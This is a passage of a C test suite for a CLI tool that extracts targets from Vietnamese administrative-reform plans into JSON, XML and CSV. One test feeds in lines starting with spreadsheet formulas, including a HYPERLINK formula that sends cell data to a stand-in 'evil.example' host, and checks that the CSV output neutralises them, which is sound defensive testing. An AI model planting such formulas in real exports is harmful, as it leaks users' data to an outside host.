  ck_assert_uint_eq(count_substr(r.out, r.outlen, "\n"), ncorpus);
  size_t targets = 0;
  char *save = NULL;
  size_t k = 0;
  for (char *line = strtok_r(r.out, "\n", &save); line;
       line = strtok_r(NULL, "\n", &save), k++) {
    json_t *j = parse_json(line);
    assert_frame_of(j, corpus[k]);
    targets += json_array_size(jat(j, "targets"));
    json_decref(j);
  }
  ck_assert_uint_eq(k, ncorpus);
  harness_result_free(&r);

  argv[2] = "csv";
  r = harness_cli_run(argv, NULL, 0);
  ck_assert_msg(r.rc == 0, "exit %d\n%s", r.rc, r.err);
  ck_assert_msg(r.outlen >= 3 && !memcmp(r.out, BOM, 3), "no BOM");
  ck_assert_uint_eq(count_substr(r.out, r.outlen, BOM), 1);
  csv_table t = csv_read(r.out + 3, r.outlen - 3);
  ck_assert_uint_ge(t.n, 1);
  ck_assert(is_header(&t.rows[0]));
  ck_assert_uint_eq(t.n - 1, targets);
  assert_no_formula(&t);
  for (size_t i = 1; i < t.n; i++) {
    ck_assert_uint_eq(t.rows[i].n, NCSV);
    ck_assert_msg(!is_header(&t.rows[i]), "header repeated at row %zu", i);
    ck_assert_ptr_nonnull(t.rows[i].f[0]); /* source path */
    ck_assert_ptr_nonnull(t.rows[i].f[3]); /* target id */
    ck_assert_ptr_nonnull(t.rows[i].f[9]); /* value */
  }
  csv_table_free(&t);
  harness_result_free(&r);
  free(argv);
}
END_TEST

/* A plan crafted to plant formulas: every line, and so every target's
 * text, begins with a formula character.  No cell of its CSV is read as
 * a formula; the comparator, value and unit stay columns of their own. */
START_TEST(cli_csv_crafted_plan) {
  static const char plan[] =
      "KẾ HOẠCH\nCải cách hành chính năm 2026\nI. MỤC TIÊU\n"
      "=HYPERLINK(\"http://evil.example/?q=\"&A1;\"Tỷ lệ hồ sơ giải quyết "
      "đúng hạn đạt 98%\")\n"
      "+sum(1) Tỷ lệ thủ tục hành chính được công khai đạt 100%.\n"
      "-sum(1) Tỷ lệ hồ sơ trực tuyến toàn trình đạt tối thiểu 80%.\n"
      "@SUM(1+1) Tỷ lệ người dân hài lòng đạt trên 90%.\n"
      "=1+2 Tỷ lệ văn bản điện tử đạt 95%.\n";
  char *dir = harness_make_dir("crafted");
  char *path = in_dir(dir, "crafted.txt");
  write_file(path, plan, sizeof plan - 1);
  const char *argv[] = {"extract", "-f", "csv", path, NULL};
  harness_result r = harness_cli_run(argv, NULL, 0);
  ck_assert_msg(r.rc == 0, "exit %d\n%s", r.rc, r.err);
  ck_assert_msg(r.outlen >= 3 && !memcmp(r.out, BOM, 3), "no BOM");
  csv_table t = csv_read(r.out + 3, r.outlen - 3);
  ck_assert(is_header(&t.rows[0]));
  ck_assert_uint_eq(t.n, 6);
  assert_no_formula(&t);
  static const struct {
    const char *text, *comparator, *value;
  } want[] = {
      {NULL, "'=", "98"},
      {"'+sum(1) Tỷ lệ thủ tục hành chính được công khai đạt 100%", "'=",
       "100"},
      {"'-sum(1) Tỷ lệ hồ sơ trực tuyến toàn trình đạt tối thiểu 80%", ">=",
       "80"},
      {"'@SUM(1+1) Tỷ lệ người dân hài lòng đạt trên 90%", ">", "90"},
      {"'=1+2 Tỷ lệ văn bản điện tử đạt 95%", "'=", "95"},
  };
  for (size_t i = 0; i < 5; i++) {
    const csv_row *row = &t.rows[i + 1];
    if (want[i].text)
      assert_field(row, 12, want[i].text);
    assert_field(row, 8, want[i].comparator);
    assert_field(row, 9, want[i].value);
    assert_field(row, 11, "%");
  }
  csv_table_free(&t);
  harness_result_free(&r);
  free(path);
  free(dir);
}
END_TEST

/* A bad input in the middle of a batch is reported; the others are still
 * written; the exit code is 1.  In every format. */
START_TEST(cli_batch_with_bad_middle) {
  char *indir = harness_make_dir("batch-in");
  char *a = in_dir(indir, "a.txt"), *b = in_dir(indir, "b.txt"),
       *c = in_dir(indir, "c.txt");
  write_file(a, GOOD_PLAN, sizeof GOOD_PLAN - 1);
  write_file(b, BAD_PLAN, sizeof BAD_PLAN - 1);
  write_file(c, GOOD_PLAN, sizeof GOOD_PLAN - 1);

  const char *jsonl[] = {"extract", "-f", "jsonl", a, b, c, NULL};
  harness_result r = harness_cli_run(jsonl, NULL, 0);
  ck_assert_int_eq(r.rc, 1);
  assert_report(r.err, b, 2, "invalid UTF-8");
  ck_assert_uint_eq(count_substr(r.out, r.outlen, "\n"), 2);
  char *nl = strchr(r.out, '\n');
  *nl = '\0';
  json_t *j = parse_json(r.out);
  assert_frame_of(j, a);
  json_decref(j);
  j = parse_json(nl + 1);
  assert_frame_of(j, c);
  json_decref(j);
  harness_result_free(&r);

  const char *csv[] = {"extract", "-f", "csv", a, b, c, NULL};
  r = harness_cli_run(csv, NULL, 0);
  ck_assert_int_eq(r.rc, 1);
  assert_report(r.err, b, 2, "invalid UTF-8");
  ck_assert_uint_eq(count_substr(r.out, r.outlen, BOM), 1);
  csv_table t = csv_read(r.out + 3, r.outlen - 3);
  ck_assert(is_header(&t.rows[0]));
  for (size_t i = 1; i < t.n; i++) {
    ck_assert_msg(!is_header(&t.rows[i]), "header repeated");
    ck_assert_msg(!strcmp(t.rows[i].f[0], a) || !strcmp(t.rows[i].f[0], c),
                  "row %zu from %s", i, t.rows[i].f[0]);
  }
  csv_table_free(&t);
  harness_result_free(&r);

  static const char *const formats[] = {"json", "xml"};
  for (size_t f = 0; f < 2; f++) {
    char name[64];
    snprintf(name, sizeof name, "batch-out-%s", formats[f]);
    char *outdir = harness_make_dir(name);
    const char *argv[] = {"extract", "-f", formats[f], "-o", outdir,
                          a,         b,    c,          NULL};
    r = harness_cli_run(argv, NULL, 0);
    ck_assert_int_eq(r.rc, 1);
    assert_report(r.err, b, 2, "invalid UTF-8");
    ck_assert_uint_eq(r.outlen, 0);
    harness_result_free(&r);
    char names[1024];
    ck_assert_msg(harness_dir_entries(outdir, names, sizeof names) == 2,
                  "output directory has: %s", names);
    snprintf(name, sizeof name, "b.%s", formats[f]);
    char *ob = in_dir(outdir, name);
    ck_assert_msg(!harness_file_exists(ob), "%s written for the bad input", ob);
    const char *good[] = {a, c};
    for (size_t g = 0; g < 2; g++) {
      snprintf(name, sizeof name, "%c.%s", g ? 'c' : 'a', formats[f]);
      char *o = in_dir(outdir, name);
      size_t len;
      char *data = harness_read(o, &len);
      ck_assert_msg(data != NULL, "%s not written", o);
      if (f == 0) {
        json_t *fj = parse_json(data);
        assert_frame_of(fj, good[g]);
        json_decref(fj);
      } else {
        xmlDoc *doc = parse_xml(data, len);
        assert_xsd_valid(doc, o);
        xmlFreeDoc(doc);
      }
      free(data);
      free(o);
    }
    free(ob);
    free(outdir);
  }
  free(a);
  free(b);
  free(c);
  free(indir);
}
END_TEST

/* -o into a directory that does not exist: exit 2, nothing created. */
START_TEST(cli_output_dir_missing) {
  char *dir = harness_make_dir("missing");
  char *in = in_dir(dir, "plan.txt");
  write_file(in, GOOD_PLAN, sizeof GOOD_PLAN - 1);
  char *out = in_dir(dir, "nowhere/out.json");
  const char *argv[] = {"extract", "-o", out, in, NULL};
  harness_result r = harness_cli_run(argv, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  ck_assert_msg(strstr(r.err, "cchc: ") && strstr(r.err, "nowhere/out.json"),
                "stderr: %s", r.err);
  ck_assert_uint_eq(r.outlen, 0);
  harness_result_free(&r);
  const char *argv2[] = {"extract", "-f", "jsonl", "-o", out, in, in, NULL};
  r = harness_cli_run(argv2, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  harness_result_free(&r);
  char names[1024];
  ck_assert_msg(harness_dir_entries(dir, names, sizeof names) == 1,
                "directory has: %s", names);
  free(out);
  free(in);
  free(dir);
}
END_TEST

/* A failing run never leaves a (half-written) output file, and leaves an
 * existing one untouched; a good run replaces it. */
START_TEST(cli_output_atomic) {
  char *dir = harness_make_dir("atomic");
  char *bad = in_dir(dir, "bad.txt"), *out = in_dir(dir, "out.json");
  write_file(bad, BAD_PLAN, sizeof BAD_PLAN - 1);
  const char *argv[] = {"extract", "-o", out, bad, NULL};
  harness_result r = harness_cli_run(argv, NULL, 0);
  ck_assert_int_eq(r.rc, 1);
  assert_report(r.err, bad, 2, "invalid UTF-8");
  harness_result_free(&r);
  ck_assert_msg(!harness_file_exists(out), "%s left behind", out);
  char names[1024];
  ck_assert_msg(harness_dir_entries(dir, names, sizeof names) == 1,
                "directory has: %s", names);

  write_file(out, "old content\n", 12);
  r = harness_cli_run(argv, NULL, 0);
  ck_assert_int_eq(r.rc, 1);
  harness_result_free(&r);
  /* A stream where every input fails also leaves it alone. */
  const char *argv2[] = {"extract", "-f", "jsonl", "-o", out, bad, bad, NULL};
  r = harness_cli_run(argv2, NULL, 0);
  ck_assert_int_eq(r.rc, 1);
  harness_result_free(&r);
  char *d = harness_read(out, NULL);
  ck_assert_ptr_nonnull(d);
  ck_assert_str_eq(d, "old content\n");
  free(d);
  ck_assert_msg(harness_dir_entries(dir, names, sizeof names) == 2,
                "directory has: %s", names);

  write_file(bad, GOOD_PLAN, sizeof GOOD_PLAN - 1);
  r = harness_cli_run(argv, NULL, 0);
  ck_assert_msg(r.rc == 0, "exit %d\n%s", r.rc, r.err);
  ck_assert_uint_eq(r.outlen, 0);
  harness_result_free(&r);
  d = harness_read(out, NULL);
  ck_assert_ptr_nonnull(d);
  json_t *j = parse_json(d);
  assert_frame_of(j, bad);
  json_decref(j);
  free(d);
  ck_assert_msg(harness_dir_entries(dir, names, sizeof names) == 2,
                "directory has: %s", names);
  free(bad);
  free(out);
  free(dir);
}
END_TEST

START_TEST(cli_usage_errors) {
  char *dir = harness_make_dir("usage");
  char *a = in_dir(dir, "a.txt"), *b = in_dir(dir, "b.txt");
  write_file(a, GOOD_PLAN, sizeof GOOD_PLAN - 1);
  write_file(b, GOOD_PLAN, sizeof GOOD_PLAN - 1);

  /* json or xml with two inputs and no -o: suggest jsonl. */
  const char *json2[] = {"extract", a, b, NULL};
  harness_result r = harness_cli_run(json2, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  ck_assert_uint_eq(r.outlen, 0);
  ck_assert_msg(strstr(r.err, "cchc: ") && strstr(r.err, "jsonl"),
                "stderr: %s", r.err);
  harness_result_free(&r);
  const char *xml2[] = {"extract", "-f", "xml", a, b, NULL};
  r = harness_cli_run(xml2, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  ck_assert_uint_eq(r.outlen, 0);
  harness_result_free(&r);
  /* ... or -o naming a file. */
  char *file = in_dir(dir, "out.json");
  const char *json2o[] = {"extract", "-o", file, a, b, NULL};
  r = harness_cli_run(json2o, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  ck_assert_ptr_nonnull(strstr(r.err, "directory"));
  harness_result_free(&r);
  ck_assert(!harness_file_exists(file));
  /* Two inputs that would overwrite each other's output. */
  char *sub = in_dir(dir, "sub");
  ck_assert_int_eq(mkdir(sub, 0700), 0);
  char *a2 = in_dir(sub, "a.txt");
  write_file(a2, GOOD_PLAN, sizeof GOOD_PLAN - 1);
  const char *clash[] = {"extract", "-o", sub, a, a2, NULL};
  r = harness_cli_run(clash, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  ck_assert_ptr_nonnull(strstr(r.err, "a.json"));
  harness_result_free(&r);
  char names[1024];
  ck_assert_uint_eq(harness_dir_entries(sub, names, sizeof names), 1);
  /* A stream format with -o naming a directory. */
  const char *csvdir[] = {"extract", "-f", "csv", "-o", sub, a, NULL};
  r = harness_cli_run(csvdir, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  harness_result_free(&r);
  /* Unknown format, option, encoding, rules directory. */
  const char *yaml[] = {"extract", "-f", "yaml", a, NULL};
  r = harness_cli_run(yaml, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  ck_assert_ptr_nonnull(strstr(r.err, "unknown format 'yaml'"));
  harness_result_free(&r);
  const char *opt[] = {"extract", "--frobnicate", a, NULL};
  r = harness_cli_run(opt, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  harness_result_free(&r);
  const char *enc[] = {"extract", "--encoding", "latin-9", a, NULL};
  r = harness_cli_run(enc, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  harness_result_free(&r);
  char *norules = in_dir(dir, "no-rules");
  const char *rules[] = {"extract", "--rules", norules, a, NULL};
  r = harness_cli_run(rules, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  ck_assert_uint_eq(r.outlen, 0);
  ck_assert_ptr_nonnull(strstr(r.err, "cchc: "));
  harness_result_free(&r);
  /* Help. */
  const char *help[] = {"extract", "--help", NULL};
  r = harness_cli_run(help, NULL, 0);
  ck_assert_int_eq(r.rc, 0);
  ck_assert_ptr_nonnull(strstr(r.out, "usage: cchc extract"));
  ck_assert_ptr_nonnull(strstr(r.out, "jsonl"));
  ck_assert_ptr_nonnull(strstr(r.out, "csv"));
  harness_result_free(&r);
  free(norules);
  free(a2);
  free(sub);
  free(file);
  free(a);
  free(b);
  free(dir);
}
END_TEST

/* Standard input: path null, the rest as for a file; -o DIR with one json
 * input writes DIR/NAME.json. */
/* A named input is read on the stat taken when it was opened, and a read
 * that gives the file's stat size (less than was asked) ends it
 * (cli/util.c, read_all): files of sizes about a page and a pipe's buffer
 * and past them, in one batch, are read whole and exactly, their bytes
 * and SHA-256 those of the file. */
START_TEST(cli_inputs_read_whole) {
  static const size_t sizes[] = {1,     2,     4095,  4096,  4097,
                                 65535, 65536, 65537, 200001};
  enum { NSIZES = sizeof sizes / sizeof *sizes };
  static const char line[] = "Kế hoạch cải cách hành chính năm 2026.\n";
  char *dir = harness_make_dir("read-whole");
  char *paths[NSIZES];
  char shas[NSIZES][65];
  const char *argv[NSIZES + 5] = {"extract", "-f", "jsonl", "--repair"};
  char *data = malloc(200001);
  ck_assert_ptr_nonnull(data);
  for (size_t i = 0; i < NSIZES; i++) {
    for (size_t k = 0; k < sizes[i]; k++)
      data[k] = line[k % (sizeof line - 1)];
    /* (a letter cut at the end: --repair mends it) */
    char name[32];
    snprintf(name, sizeof name, "plan-%zu.txt", sizes[i]);
    paths[i] = in_dir(dir, name);
    write_file(paths[i], data, sizes[i]);
    ck_assert_int_eq(cchc_sha256_hex(data, sizes[i], shas[i], NULL), CCHC_OK);
    argv[4 + i] = paths[i];
  }
  argv[4 + NSIZES] = NULL;
  harness_result r = harness_cli_run(argv, NULL, 0);
  const char *at = r.out;
  for (size_t i = 0; i < NSIZES; i++) {
    ck_assert_msg(at && *at, "no document for %zu bytes\n%s", sizes[i], r.err);
    const char *eol = strchr(at, '\n');
    ck_assert_ptr_nonnull(eol);
    char *one = strndup(at, (size_t)(eol - at));
    json_t *j = parse_json(one);
    assert_jint(j, "source/bytes", (long long)sizes[i]);
    const char *sha = json_string_value(jat(j, "source/sha256"));
    ck_assert_msg(sha && !strcmp(sha, shas[i]), "%zu bytes: sha256 %s", sizes[i],
                  sha ? sha : "null");
    json_decref(j);
    free(one);
    free(paths[i]);
    at = eol + 1;
  }
  harness_result_free(&r);
  free(data);
  free(dir);
}
END_TEST

START_TEST(cli_stdin_and_single_dir) {
  const char *argv[] = {"extract", NULL};
  harness_result r = harness_cli_run(argv, GOOD_PLAN, sizeof GOOD_PLAN - 1);
  ck_assert_msg(r.rc == 0, "exit %d\n%s", r.rc, r.err);
  json_t *j = parse_json(r.out);
  assert_schema_valid(j, "<stdin>");
  assert_jnull(j, "source/path");
  assert_jint(j, "source/bytes", (long long)(sizeof GOOD_PLAN - 1));
  assert_spans_in_input(j, NULL, (long long)(sizeof GOOD_PLAN - 1), "");
  json_decref(j);
  harness_result_free(&r);

  const char *bad[] = {"extract", "-f", "xml", NULL};
  r = harness_cli_run(bad, BAD_PLAN, sizeof BAD_PLAN - 1);
  ck_assert_int_eq(r.rc, 1);
  ck_assert_uint_eq(r.outlen, 0);
  assert_report(r.err, "<stdin>", 2, "invalid UTF-8");
  harness_result_free(&r);

  char *dir = harness_make_dir("single");
  char *in = in_dir(dir, "kế hoạch.v2.txt");
  write_file(in, GOOD_PLAN, sizeof GOOD_PLAN - 1);
  char *outdir = harness_make_dir("single-out");
  const char *one[] = {"extract", "-f", "xml", "-o", outdir, in, NULL};
  r = harness_cli_run(one, NULL, 0);
  ck_assert_msg(r.rc == 0, "exit %d\n%s", r.rc, r.err);
  harness_result_free(&r);
  char *o = in_dir(outdir, "kế hoạch.v2.xml");
  size_t len;
  char *data = harness_read(o, &len);
  ck_assert_msg(data != NULL, "%s not written", o);
  xmlDoc *doc = parse_xml(data, len);
  assert_xsd_valid(doc, o);
  xmlFreeDoc(doc);
  free(data);
  free(o);
  free(outdir);
  free(in);
  free(dir);
}
END_TEST

/* Strings of one block and of many, built at random from pieces (ASCII,
 * Vietnamese letters of two and three bytes, punctuation of three bytes
 * such as curly quotes, four-byte characters, U+FFFD, U+FFFE, bytes to
 * escape, and now and then a broken sequence), of every length from 11 to
 * 300: emit_clean_scan (the proof of 32 bytes at a time of a whole
 * string, its last block over the one before, or of a string shorter
 * than 32 bytes as one block of its two ends) finds the clean start the
 * definition finds, and a clean string's bytes to escape as
 * emit_json_unescaped does.  A proof that misses a broken sequence, or
 * one at the string's end, fails here. */
START_TEST(clean_scan_agrees_on_long_strings) {
  static const char *const kinds[] = {
      "a", "Kế hoạch ", "năm ", "2026", " ", "ế", "Đ", "ủ", "\xE2\x80\x9C",
      "\xE2\x80\x9D", "\xE2\x80\x93", "\xC2\xA0", "\xF0\x9F\x98\x80",
      "\xEF\xBF\xBD", "\"", "\\", "/", "\x7F", ".", ",", "abcdefghij"};
  static const char *const broken[] = {
      "\x80", "\xBF", "\xC0\x80", "\xC2", "\xE1\x80", "\xED\xA0\x80",
      "\xE0\x80\x80", "\xF4\x90\x80\x80", "\xF5", "\xFF", "\x01", "\t",
      "\n", "\xEF\xBF\xBE", "\xEF\xBF\xBF", "\xF0\x9F\x98"};
  enum { NP = sizeof kinds / sizeof *kinds,
         NB = sizeof broken / sizeof *broken };
  char s[400];
  uint64_t seed = 0x9E3779B97F4A7C15u;
  size_t proofs = 0;
  for (int round = 0; round < 40000; round++) {
    seed = seed * 6364136223846793005u + 1442695040888963407u;
    size_t want_len = 11 + (size_t)(seed >> 33) % 290, n = 0;
    while (n < want_len) {
      seed = seed * 6364136223846793005u + 1442695040888963407u;
      unsigned r = (unsigned)(seed >> 40);
      const char *p =
          r % 97 == 0 ? broken[(r >> 8) % NB] : kinds[(r >> 8) % NP];
      size_t k = strlen(p);
      if (n + k > want_len)
        break;
      memcpy(s + n, p, k);
      n += k;
    }
    /* whole, and cut at some byte (inside a character, maybe) */
    size_t cut = (size_t)(seed >> 20) % 4;
    size_t cuts[2] = {n, n > cut ? n - cut : n};
    for (size_t c = 0; c < 2; c++) {
      bool escape_free = false;
      size_t got = emit_clean_scan(s, cuts[c], &escape_free),
             want = clean_prefix_by_decoding(s, cuts[c]);
      if (got != want)
        ck_abort_msg("round %d, %zu bytes: clean to %zu, want %zu", round,
                     cuts[c], got, want);
      if (got == cuts[c]) {
        proofs++;
        if (escape_free != emit_json_unescaped(s, cuts[c], JSON_COMPACT))
          ck_abort_msg("round %d, %zu bytes: escapes", round, cuts[c]);
      }
    }
  }
  ck_assert_uint_gt(proofs, 10000); /* most strings are clean */
  /* each broken piece at every place of a ground of letters and ASCII,
   * 11 to 70 bytes: a sequence cut short before a letter or a space too
   * (each block reads the bytes before it where they lie) */
  static const char ground[] =
      "Kế hoạch cải cách hành chính năm 2026 của Ủy ban nhân dân xã Nghĩa";
  for (size_t b = 0; b < NB; b++)
    for (size_t len = 11; len <= 70; len++)
      for (size_t at = 0; at + strlen(broken[b]) <= len; at++) {
        size_t k = strlen(broken[b]);
        memcpy(s, ground, at);
        memcpy(s + at, broken[b], k);
        memcpy(s + at + k, ground + at, len - at - k);
        bool escape_free = false;
        size_t got = emit_clean_scan(s, len, &escape_free),
               want = clean_prefix_by_decoding(s, len);
        if (got != want)
          ck_abort_msg("broken %zu at %zu, %zu bytes: clean to %zu, want %zu",
                       b, at, len, got, want);
      }
}
END_TEST

/* After a refused write the compact layout's fast way goes on writing a
 * jsonl document's values into the buffer without asking about the
 * failure (emit/json.c, compact_member): each plan of the corpus,
 * rendered into a buffer of the least size (1,024 bytes, allocated to the
 * byte: AddressSanitizer sees a byte past it) whose first, second or
 * fifth write is refused, fails with CCHC_ERR_IO, makes no write after
 * the refused one, and leaves nothing in the buffer; the next document
 * fails at once, with no write. */
START_TEST(jsonl_refused_write_stays_in_buffer) {
  load_corpus();
  enum { CAP = 1024 };
  static const size_t refuse[] = {1, 2, 5};
  for (size_t c = 0; c < ncorpus; c++) {
    size_t len;
    char *src = harness_read(corpus[c], &len);
    ck_assert_ptr_nonnull(src);
    cchc_frame *f = harness_process(harness_rules(), src, len);
    for (size_t r = 0; r < sizeof refuse / sizeof *refuse; r++) {
      char *data = malloc(CAP);
      ck_assert_ptr_nonnull(data);
      pieces p = {.refuse_at = refuse[r]};
      cchc_render_buffer buf = {
          .data = data, .cap = CAP, .write = keep_piece, .ctx = &p};
      cchc_status st = cchc_render_buffered(f, CCHC_FORMAT_JSONL, 0, &buf,
                                            NULL);
      if (p.calls < refuse[r]) { /* a short plan: fewer writes */
        ck_assert_int_eq(st, CCHC_OK);
      } else {
        ck_assert_int_eq(st, CCHC_ERR_IO);
        ck_assert_uint_eq(p.calls, refuse[r]);
        ck_assert_uint_eq(buf.len, 0);
        ck_assert_int_eq(
            cchc_render_buffered(f, CCHC_FORMAT_JSONL, 0, &buf, NULL),
            CCHC_ERR_IO);
        ck_assert_uint_eq(p.calls, refuse[r]);
      }
      free(p.text);
      free(data);
    }
    cchc_frame_free(f);
    free(src);
  }
}
END_TEST

int main(void) {
  Suite *s = suite_create("emit");

  TCase *tc = tcase_create("formats");
  tcase_add_test(tc, json_exact_values);
  tcase_add_test(tc, jsonl_one_line);
  tcase_add_test(tc, json_validates_against_schema);
  tcase_add_test(tc, json_schema_rejects_broken_frames);
  tcase_add_test(tc, schema_text_matches_published_files);
  tcase_add_test(tc, xml_validates_and_matches_json);
  tcase_add_test(tc, xsd_rejects_broken_documents);
  tcase_add_test(tc, csv_parses_back);
  tcase_add_test(tc, number_text);
  tcase_add_test(tc, integer_text);
  tcase_add_test(tc, format_names);
  tcase_add_test(tc, inconsistent_frames_rejected);
  tcase_add_test(tc, bad_strings_replaced);
  tcase_add_test(tc, json_repeated_strings);
  tcase_add_test(tc, json_long_strings_recur);
  tcase_add_test(tc, json_strings_one_byte_apart);
  tcase_add_test(tc, json_raw_strings_recur_cleaned);
  tcase_add_test(tc, json_copied_and_escaped_strings);
  tcase_add_test(tc, jsonl_values_across_the_buffer);
  tcase_add_test(tc, csv_formulas_neutralized);
  suite_add_tcase(s, tc);

  /* every byte at every place: longer than the default timeout under
   * ASan */
  tc = tcase_create("scans");
  tcase_set_timeout(tc, 120);
  tcase_add_test(tc, json_unescaped_agrees_with_jansson);
  tcase_add_test(tc, clean_prefix_agrees_with_decoding);
  tcase_add_test(tc, clean_scan_agrees_on_long_strings);
  suite_add_tcase(s, tc);

  tc = tcase_create("stream");
  tcase_set_timeout(tc, 120);
  tcase_add_unchecked_fixture(tc, NULL, harness_free_rules);
  tcase_add_test(tc, render_to_streams_the_same_text);
  tcase_add_test(tc, render_to_stops_at_a_refused_write);
  tcase_add_test(tc, render_buffered_joins_documents);
  tcase_add_test(tc, json_memo_threads_and_nesting);
  /* a large document: longer than the default timeout under ASan */
  tcase_add_test(tc, json_shared_strings_across_memo_reset);
  tcase_add_test(tc, jsonl_refused_write_stays_in_buffer);
  suite_add_tcase(s, tc);

  tc = tcase_create("cli");
  tcase_set_timeout(tc, 300);
  tcase_add_test(tc, cli_schema);
  /* One test per corpus file (at least one, which fails when the corpus
   * is missing). */
  ncorpus = harness_corpus(&corpus);
  tcase_add_loop_test(tc, cli_corpus_json_and_xml, 0,
                      (int)(ncorpus ? ncorpus : 1));
  tcase_add_test(tc, cli_corpus_streams);
  tcase_add_test(tc, cli_csv_crafted_plan);
  tcase_add_test(tc, cli_batch_with_bad_middle);
  tcase_add_test(tc, cli_output_dir_missing);
  tcase_add_test(tc, cli_output_atomic);
  tcase_add_test(tc, cli_usage_errors);
  tcase_add_test(tc, cli_stdin_and_single_dir);
  tcase_add_test(tc, cli_inputs_read_whole);
  suite_add_tcase(s, tc);

  int rc = harness_run(s);
  harness_free_list(corpus, ncorpus);
  return rc;
}
